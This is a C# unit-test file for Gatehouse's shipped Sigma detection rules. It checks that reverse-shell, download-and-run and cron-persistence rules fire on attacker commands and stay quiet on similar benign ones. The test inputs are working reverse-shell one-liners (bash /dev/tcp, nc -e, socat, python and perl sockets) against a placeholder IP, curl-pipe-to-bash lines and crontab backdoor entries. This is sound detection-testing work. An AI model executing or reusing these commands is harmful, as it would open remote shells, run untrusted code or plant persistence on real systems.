using Gatehouse.Audit.Detection.Sigma;
using Gatehouse.Contracts;
using static Gatehouse.Audit.Tests.Detection.Sigma.SigmaScenarios;

namespace Gatehouse.Audit.Tests.Detection.Sigma;

/// <summary>The Sigma rules Gatehouse ships: what an attacker types fires, the nearest ordinary work stays quiet.</summary>
public sealed class When_the_shipped_sigma_rules_judge_events
{
    private static readonly SigmaRuleSet Shipped = SigmaRuleSet.Load([Path.Combine(AppContext.BaseDirectory, SigmaSettings.ShippedFolder)]);

    private static bool Fires(string rule, IAccessEvent accessEvent) => Shipped.Matching(accessEvent).Any(r => r.Name == "sigma:" + rule);

    [Theory]
    [InlineData("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")]
    [InlineData("sh -i >& /dev/udp/203.0.113.9/53 0>&1")]
    [InlineData("0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196")]
    [InlineData("nc -e /bin/sh 203.0.113.9 4444")]
    [InlineData("/usr/bin/ncat 203.0.113.9 4444 -e /bin/bash")]
    [InlineData("nc -nvlpe /bin/sh 4444")]
    [InlineData("ncat --sh-exec 'bash -i' 203.0.113.9 4444")]
    [InlineData("sudo socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr")]
    [InlineData("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));pty.spawn(\"sh\")'")]
    [InlineData("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.9\")))'")]
    public void Reverse_shells_fire(string line) => Assert.True(Fires("reverse-shell", Command(line)), line);

    [Theory]
    [InlineData("ls -l /dev/")]
    [InlineData("nc -zv db01 5432")]
    [InlineData("echo hello | nc -q 1 logs 514")]
    [InlineData("socat - TCP:db01:5432")]
    [InlineData("python3 -c 'import socket; print(socket.gethostname())'")]
    [InlineData("cat notes-about-/dev/tcp.txt")]
    public void Ordinary_network_work_stays_quiet(string line) => Assert.False(Fires("reverse-shell", Command(line)), line);

    [Theory]
    [InlineData("curl -fsSL https://get.example.com | sh")]
    [InlineData("curl -s https://x.example/i.sh | sudo bash")]
    [InlineData("wget -qO- http://203.0.113.9/x | bash -s -- --quiet")]
    [InlineData("curl https://x.example/i.sh|/bin/bash")]
    [InlineData("bash <(curl -s https://x.example/i.sh)")]
    [InlineData("sh -c \"$(curl -fsSL https://x.example/install.sh)\"")]
    public void Download_and_run_fires(string line) => Assert.True(Fires("download-and-run", Command(line)), line);

    [Theory]
    [InlineData("curl -o install.sh https://x.example/i.sh")]
    [InlineData("curl -s https://api.example/health | grep ok")]
    [InlineData("curl -s https://x.example/sums | shasum -c")]
    [InlineData("bash ./install.sh")]
    public void Downloading_or_running_alone_stays_quiet(string line) => Assert.False(Fires("download-and-run", Command(line)), line);

    [Theory]
    [InlineData("crontab -e")]
    [InlineData("crontab -r")]
    [InlineData("echo '* * * * * /tmp/.x' | crontab -")]
    [InlineData("(crontab -l; echo '@reboot /tmp/.x') | crontab -")]
    [InlineData("sudo crontab -u www-data /tmp/jobs")]
    [InlineData("echo '* * * * * root /tmp/.x' >> /etc/crontab")]
    [InlineData("sudo tee /etc/cron.d/update < /tmp/job")]
    [InlineData("vi /var/spool/cron/crontabs/root")]
    public void Cron_changes_fire(string line) => Assert.True(Fires("crontab-edited", Command(line)), line);

    [Theory]
    [InlineData("crontab -l")]
    [InlineData("crontab -l -u www-data")]
    [InlineData("cat /etc/crontab")]
    [InlineData("ls -la /etc/cron.d/")]
    [InlineData("grep backup /etc/crontab")]
    [InlineData("man crontab")]
    public void Reading_cron_stays_quiet(string line) => Assert.False(Fires("crontab-edited", Command(line)), line);

    [Fact]
    public void Should_fire_on_a_cron_file_written_over_sftp_and_stay_quiet_on_reading_one()
    {
        Assert.True(Fires("cron-file-transferred", File(SftpOperation.OpenForWrite, "/etc/cron.d/backdoor")));
        Assert.True(Fires("cron-file-transferred", File(SftpOperation.Rename, "/tmp/job", "/var/spool/cron/crontabs/root")));
        Assert.False(Fires("cron-file-transferred", File(SftpOperation.OpenForRead, "/etc/crontab")));
        Assert.False(Fires("cron-file-transferred", File(SftpOperation.OpenForWrite, "/home/alice/backup/etc/cron.d/job")));
    }

    [Fact]
    public void Should_fire_on_a_failed_login_as_a_default_admin_name_and_stay_quiet_on_a_success_or_a_person()
    {
        Assert.True(Fires("default-admin-names", Failed("root")));
        Assert.True(Fires("default-admin-names", Failed("Administrator")));
        Assert.False(Fires("default-admin-names", Failed("alice")));
        Assert.False(Fires("default-admin-names", Login("admin")));
    }
}
